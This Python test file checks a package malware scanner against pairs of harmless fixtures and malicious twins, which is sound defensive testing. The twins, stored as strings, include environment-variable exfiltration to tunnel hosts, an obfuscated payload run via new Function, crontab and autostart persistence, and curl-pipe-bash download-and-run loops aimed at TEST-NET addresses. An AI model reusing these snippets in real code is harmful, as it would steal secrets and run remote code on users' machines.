"""Round 12's false-alarm classes (chains, persistence, endpoints), each a harmless fixture
beside a malicious twin.

Every harmless fixture (how a popular release does the thing) must stay below high; every twin
(the same shape doing harm) must still be high or critical with the threat named for it.
Addresses are TEST-NET or ``.invalid``; nothing here is ever run.
"""

from __future__ import annotations

import json
import random

from tests.core.capabilities.variant_scan import HIGH, assert_high_with, scan


def _scan(files, tmp_path, sub: str):
    where = tmp_path / sub
    where.mkdir()
    return scan(files, where)


def _ids(result) -> list[tuple[str, str]]:
    return [(t.id, t.severity) for t in result.threats]


# ---------------------------------------------------------------- addresses in a data file
# An OSINT tool's site list (maigret's data.json) names thousands of sites, among them a tunnel
# service's forum and an IP-lookup service's community site. A data file is read, not run: the
# endpoint was already no threat of its own there, and now joins no chain either.
def _site_list() -> str:
    sites = {
        f"site{i}.example.invalid": {"urlMain": f"https://site{i}.example.invalid"}
        for i in range(30)
    }
    sites["discuss.playit.gg"] = {"urlMain": "https://discuss.playit.gg", "tags": ["forum"]}
    sites["community.ipinfo.io"] = {"urlMain": "https://community.ipinfo.io"}
    return json.dumps(sites, indent=4)


SITE_READER = (
    "import json\nimport os\n\n\ndef load():\n"
    "    with open(os.path.join(os.path.dirname(__file__), 'resources', 'data.json')) as f:\n"
    "        return json.load(f)\n"
)


def test_a_site_list_naming_a_tunnel_and_an_ip_lookup_is_no_chain(tmp_path):
    files = {"pkg/__init__.py": SITE_READER, "pkg/resources/data.json": _site_list()}
    result = scan(files, tmp_path)
    assert result.risk.level not in HIGH, _ids(result)


def test_code_sending_the_environment_to_an_address_kept_in_json_is_still_caught(tmp_path):
    thief = (
        "import json\nimport os\nimport urllib.request\n\n"
        "with open(os.path.join(os.path.dirname(__file__), 'cfg.json')) as f:\n"
        "    url = json.load(f)['upload']\n"
        "body = json.dumps(dict(os.environ)).encode()\n"
        "urllib.request.urlopen(url, data=body)\n"
    )
    files = {
        "pkg/__init__.py": thief,
        "pkg/cfg.json": json.dumps({"upload": "https://abc-def.trycloudflare.com/u"}),
    }
    assert_high_with("json-kept drop", scan(files, tmp_path), {"chain.exfiltration"})


# ---------------------------------------------------------------- a tunnel host in a regex
# flask-cloudflared starts cloudflared and finds the tunnel's URL in its metrics with
# r"https?://[^\s]+.trycloudflare.com": a pattern recognising the service's addresses.
TUNNEL_CLIENT = (
    "import re\nimport subprocess\nimport requests\n\n\ndef start(port):\n"
    "    subprocess.Popen(['cloudflared', 'tunnel', '--url', f'http://127.0.0.1:{port}'])\n"
    "    metrics = requests.get('http://127.0.0.1:8100/metrics').text\n"
    '    m = re.search(r"(?P<url>https?:\\/\\/[^\\s]+.trycloudflare.com)", metrics)\n'
    "    return m.group('url') if m else None\n"
)


def test_a_regex_that_finds_a_tunnel_url_is_no_endpoint(tmp_path):
    result = scan({"pkg/__init__.py": TUNNEL_CLIENT}, tmp_path)
    assert result.risk.level not in HIGH, _ids(result)


def test_a_tunnel_address_code_posts_to_is_still_an_endpoint(tmp_path):
    beacon = TUNNEL_CLIENT + (
        "\n\ndef beacon(data):\n"
        "    requests.post('https://quiet-owl-12.trycloudflare.com/in', data=data)\n"
    )
    assert_high_with(
        "tunnel drop", scan({"pkg/__init__.py": beacon}, tmp_path), {"chain.exfil_endpoint"}
    )


# ---------------------------------------------------------------- a character table in a bundle
# swagger-ui's bundle (vendored by aiohttp-swagger) carries Autolinker's class of every script's
# letters, "A-Za-zªµºÀ-ÖØ-öø-ˁ...", a long token of distinct characters (high entropy) beside the
# bundle's template compiler (new Function). Its characters rise in code-point order; a
# payload written as characters has no order.
def _letter_class(test=str.isalpha) -> str:
    runs, start, prev = [], None, 0
    for cp in range(0xAA, 0xFFFF):
        if test(chr(cp)):
            start = cp if start is None else start
            prev = cp
        elif start is not None:
            runs.append(chr(start) if start == prev else f"{chr(start)}-{chr(prev)}")
            start = None
    return "A-Za-z" + "".join(runs)


def _bundle(token_js: str) -> dict[str, str]:
    return {"pkg/__init__.py": "", "pkg/swagger_ui3/swagger-ui-bundle.js": token_js}


def test_a_regex_class_of_every_scripts_letters_is_no_hidden_payload(tmp_path):
    letters = _letter_class() + "0-9" + _letter_class(str.isdecimal)
    assert len(letters) > 1000  # a long token, as the bundle's
    bundle = (
        '!function(e){var s={};s.RegexLib={alphaNumericCharsStr:a="' + letters + '"};'
        's.compile=function(t){return new Function("x",t)};e.Lib=s}(this);\n'
    )
    result = scan(_bundle(bundle), tmp_path)
    assert result.risk.level not in HIGH, _ids(result)


def test_a_payload_written_as_shifted_characters_beside_new_function_is_still_caught(tmp_path):
    rng = random.Random(7)
    blob = "".join(chr(rng.randrange(0x100, 0x2400)) for _ in range(1500))
    bundle = (
        '!function(e){var k="' + blob + '";var c="";'
        "for(var i=0;i<k.length;i++)c+=String.fromCharCode(k.charCodeAt(i)-256);"
        "new Function(c)()}(this);\n"
    )
    assert_high_with("shifted payload", scan(_bundle(bundle), tmp_path), {"disguise.encoded_exec"})


# ---------------------------------------------------------------- user data for another machine
# A CDK construct (cdk-gitlab-runner's jsii JavaScript) returns the shell lines an EC2 instance
# runs at boot: "systemctl enable docker" is text handed to AWS. A file that starts nothing,
# writes nothing and runs no built code persists nothing on this host.
CONSTRUCT = """"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
class RunnerInstance {
    createUserData(props) {
        return [
            'yum update -y',
            'systemctl restart docker && systemctl enable docker',
            `docker run --restart always -d --name runner ${props.image}`,
        ];
    }
}
exports.RunnerInstance = RunnerInstance;
"""
PERSISTING_JS = {
    "the same lines run here": CONSTRUCT.replace(
        "class RunnerInstance {", "const cp = require('child_process');\nclass RunnerInstance {"
    ).replace(
        "exports.RunnerInstance = RunnerInstance;",
        "cp.execSync(new RunnerInstance().createUserData({image: 'x'}).join(' && '));",
    ),
    "a crontab line": "const { execSync } = require('child_process');\n"
    "execSync('(crontab -l; echo \"@reboot node ' + __filename + '\") | crontab -');\n",
    "an autostart entry written": "const fs = require('fs');\nconst os = require('os');\n"
    "fs.writeFileSync(os.homedir() + '/.config/autostart/agent.desktop',"
    " '[Desktop Entry]\\nExec=node ' + __filename);\n",
}


def test_user_data_a_construct_renders_for_an_instance_is_no_persistence(tmp_path):
    result = scan({"pkg/__init__.py": "", "pkg/lib/runner.js": CONSTRUCT}, tmp_path)
    assert result.risk.level not in HIGH, _ids(result)


def test_javascript_that_runs_or_writes_an_autostart_line_is_still_persistence(tmp_path):
    for name, js in PERSISTING_JS.items():
        result = _scan({"pkg/__init__.py": "", "pkg/lib/runner.js": js}, tmp_path, name[:12])
        assert_high_with(name, result, {"impact.persistence"})


# ---------------------------------------------------------------- a list of commands refused
# An AI CLI's security module lists the commands it asks before running ("curl | bash" among
# "rm -rf" and "mkfs"): a table compared with, in a module that starts no program.
GUARD = """import os

DANGEROUS_COMMANDS = [
    "rm -rf", "mkfs", "shutdown", "chmod 777", "curl | bash", "wget | bash",
]


def check_command_safety(command):
    low = command.lower()
    return not any(d in low for d in DANGEROUS_COMMANDS)


def protect(root):
    with open(os.path.join(root, ".gitignore"), "a", encoding="utf-8") as f:
        f.write(".state/\\n")
"""
RUN_TABLES = {
    "os.system in a loop on load": """import os

SETUP_STEPS = [
    "mkdir -p /tmp/.cache",
    "curl -fsSL http://198.51.100.7/i.sh | bash",
    "wget -qO- http://198.51.100.7/j.sh | bash",
]

for step in SETUP_STEPS:
    os.system(step)
""",
    "run imported by name": """from subprocess import run

SETUP_STEPS = [
    "mkdir -p /tmp/.cache",
    "curl -fsSL http://198.51.100.7/i.sh | bash",
    "true",
]


def go():
    for step in SETUP_STEPS:
        run(step, shell=True)


go()
""",
}


def test_a_table_of_commands_a_tool_refuses_is_no_download_and_run(tmp_path):
    result = scan({"pkg/__init__.py": "", "pkg/security.py": GUARD}, tmp_path)
    assert result.risk.level not in HIGH, _ids(result)


def test_a_table_of_commands_the_module_runs_is_still_download_and_run(tmp_path):
    for name, module in RUN_TABLES.items():
        result = _scan({"pkg/__init__.py": "", "pkg/steps.py": module}, tmp_path, name[:8])
        assert_high_with(name, result, {"chain.download_execute"})
